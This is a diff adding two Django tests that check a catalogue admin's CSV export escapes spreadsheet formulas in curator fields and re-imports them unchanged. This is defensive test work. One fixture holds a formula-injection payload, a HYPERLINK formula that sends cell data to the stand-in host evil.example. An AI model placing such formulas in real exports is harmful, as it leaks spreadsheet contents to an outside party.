@@ -590,3 +590,31 @@ def test_change_form_shows_the_criteria_in_their_own_order(client, curator):
     page = client.get(reverse("admin:catalog_programme_change", args=[programme.pk]))
     forms = page.context["inline_admin_formsets"][0].formset.forms
     assert [form.instance.criterion for form in forms] == Criterion.values
+
+
+def test_csv_export_writes_a_formula_in_a_curator_field_as_text(client, curator, lookups):
+    attack = '=HYPERLINK("https://evil.example/?leak="&A2,"Klik")'
+    factories.programme("Psyfit", provider=factories.provider("Trimbos-Instituut"), summary=attack)
+    verified_login(client, curator)
+    exported = client.post(reverse("admin:catalog_programme_export"), {"format": "0", "resource": "0"})
+    [row] = csv.DictReader(io.StringIO(exported.content.decode("utf-8-sig")))
+    assert row["summary"] == "'" + attack
+    assert not any(value.startswith(("=", "+", "@")) for value in row.values())
+
+
+def test_csv_export_with_escaped_formulas_imports_back_unchanged(client, curator, lookups):
+    text = "- eerste punt\n- tweede punt"
+    factories.programme(
+        "Psyfit",
+        provider=factories.provider("Trimbos-Instituut"),
+        status=Status.DRAFT,
+        summary="=1+1",
+        description=text,
+    )
+    verified_login(client, curator)
+    exported = client.post(reverse("admin:catalog_programme_export"), {"format": "0", "resource": "0"})
+    shown = preview(client, exported.content.decode("utf-8-sig"))
+    assert not shown.context["result"].has_errors() and not shown.context["result"].has_validation_errors()
+    confirm(client, shown)
+    programme = Programme.objects.get(slug="psyfit")
+    assert (programme.summary, programme.description) == ("=1+1", text)
